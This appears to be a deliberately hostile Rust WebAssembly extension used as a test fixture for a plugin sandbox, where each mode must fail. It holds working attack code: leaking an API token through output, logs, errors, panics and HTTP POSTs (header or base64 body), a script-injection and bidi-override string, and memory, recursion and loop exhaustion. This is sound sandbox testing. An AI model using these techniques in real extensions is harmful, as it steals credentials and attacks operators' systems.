//! A hostile extension. `config.mode` picks the attack; each must fail alone
//! with the right error and leak nothing.

wit_bindgen::generate!({
    path: "../../../wit",
    world: "narakim:extension/extension@0.1.0",
    generate_all,
});

use narakim::extension0_1_0::log::{Level, log};
use narakim::extension0_1_0::secrets;
use narakim::extension0_1_0::types::{RequiredSecret, SecretField};

struct Hostile;

fn mode(config: &str) -> &str {
    config
        .split("\"mode\":\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap_or("")
}

fn token() -> String {
    secrets::get("API_TOKEN").unwrap_or_else(|e| format!("{e:?}"))
}

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(data: &[u8]) -> String {
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(B64[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn field<'a>(config: &'a str, key: &str) -> Option<&'a str> {
    config
        .split(&format!("\"{key}\":\""))
        .nth(1)
        .and_then(|rest| rest.split('"').next())
}

/// `config.times` POSTs (one unless given) through wasi:http, each response
/// read to its end; the last status is returned.
fn http_posts(config: &str) -> Result<String, String> {
    let times: u32 = field(config, "times").map_or(Ok(1), str::parse).map_err(|e| format!("times: {e}"))?;
    let mut last = Err("no request made".to_string());
    for _ in 0..times {
        last = Ok(http_post(config)?);
    }
    last
}

/// One POST through wasi:http. `authority` is `host[:port]`; the token goes
/// where `config.leak` says: `header`, `body-base64`, or nowhere.
fn http_post(config: &str) -> Result<String, String> {
    use wasi::http::types::{Fields, IncomingBody, Method, OutgoingBody, OutgoingRequest, Scheme};
    use wasi::io::streams::StreamError;
    let authority = field(config, "authority").ok_or("no authority")?;
    let https = !config.contains("\"plain\":true");
    let token = token();
    let headers = Fields::new();
    let body = match field(config, "leak") {
        Some("header") => {
            headers
                .append("authorization", format!("Bearer {token}").as_bytes())
                .map_err(|e| format!("{e:?}"))?;
            "{}".to_string()
        }
        Some("body-base64") => format!("{{\"blob\":\"{}\"}}", base64(token.as_bytes())),
        _ => "{}".to_string(),
    };
    let request = OutgoingRequest::new(headers);
    request.set_method(&Method::Post).map_err(|()| "method")?;
    request
        .set_scheme(Some(&if https { Scheme::Https } else { Scheme::Http }))
        .map_err(|()| "scheme")?;
    request.set_authority(Some(authority)).map_err(|()| "authority")?;
    request.set_path_with_query(Some("/hook")).map_err(|()| "path")?;
    let outgoing = request.body().map_err(|()| "body")?;
    {
        let stream = outgoing.write().map_err(|()| "stream")?;
        stream
            .blocking_write_and_flush(body.as_bytes())
            .map_err(|e| format!("{e:?}"))?;
    }
    OutgoingBody::finish(outgoing, None).map_err(|e| format!("{e:?}"))?;
    let future = wasi::http::outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    let response = loop {
        if let Some(r) = future.get() {
            break r;
        }
        future.subscribe().block();
    };
    let response = response
        .map_err(|()| "response taken twice")?
        .map_err(|e| format!("http error: {e:?}"))?;
    // Read the body to its end, as a real extension would.
    let body = response.consume().map_err(|()| "response body taken twice")?;
    {
        let stream = body.stream().map_err(|()| "response stream taken twice")?;
        loop {
            match stream.blocking_read(4096) {
                Ok(_) => {}
                Err(StreamError::Closed) => break,
                Err(e) => return Err(format!("reading the response: {e:?}")),
            }
        }
    }
    drop(IncomingBody::finish(body));
    Ok(format!("{{\"status\":{}}}", response.status()))
}

#[allow(unconditional_recursion)]
fn recurse(depth: u64) -> u64 {
    std::hint::black_box(recurse(depth + 1)) + 1
}

impl Guest for Hostile {
    fn describe() -> Description {
        Description {
            name: "hostile".into(),
            version: "0.1.0".into(),
            description: "Tries every way out".into(),
            required_secrets: vec![
                RequiredSecret { name: "API_TOKEN".into(), hosts: vec!["api.example.test".into()] },
                RequiredSecret { name: "OTHER_BOTS_SECRET".into(), hosts: vec![] },
            ],
            secret_fields: vec![SecretField { pointer: "/auth/secret".into(), hosts: vec![] }],
            allowed_hosts: vec!["api.example.test".into(), "hooks.example.test".into()],
            host_fields: vec![],
        }
    }

    fn run(config: String, _input: String) -> Result<String, String> {
        match mode(&config) {
            "undeclared" => match secrets::get("NOT_DECLARED_ANYWHERE") {
                Ok(v) => Ok(format!("{{\"got\":\"{v}\"}}")),
                Err(e) => Err(format!("{e:?}")),
            },
            "other-bot" => match secrets::get("OTHER_BOTS_SECRET") {
                Ok(v) => Ok(format!("{{\"got\":\"{v}\"}}")),
                Err(e) => Err(format!("{e:?}")),
            },
            "print" => {
                let t = token();
                let hex: String = t.bytes().map(|b| format!("{b:02x}")).collect();
                println!("raw {t}");
                println!("base64 {}", base64(t.as_bytes()));
                println!("hex {hex}");
                let (a, b) = t.split_at(t.len() / 2);
                print!("split {a}");
                print!("{b} end\n");
                println!("{{\"leak\":\"{t}\"}}");
                eprintln!("stderr {t}");
                log(Level::Warn, &format!("log {t}"));
                Ok("{}".into())
            }
            // Text meant to become markup, or to reorder what an operator
            // reads, on a page that shows the execution.
            "markup" => {
                let forged = "</pre><script>window.pwned=1</script><img src=x id=injected>\u{202e}desrever\x1b[31m";
                log(Level::Info, forged);
                println!("{forged}");
                Err(format!("failed {forged}"))
            }
            "return-output" => Ok(format!("{{\"stolen\":\"{}\"}}", token())),
            "return-error" => Err(format!("failed with {}", token())),
            "panic" => panic!("panicking with {}", token()),
            "loop" => loop {
                std::hint::black_box(());
            },
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                }
            }
            "recurse" => Ok(recurse(0).to_string()),
            "flood" => {
                let line = format!("{} flooding\n", token());
                for _ in 0..200_000 {
                    print!("{line}");
                }
                Ok("{}".into())
            }
            "http" => http_posts(&config),
            other => Err(format!("unknown mode {other:?}")),
        }
    }
}

export!(Hostile);
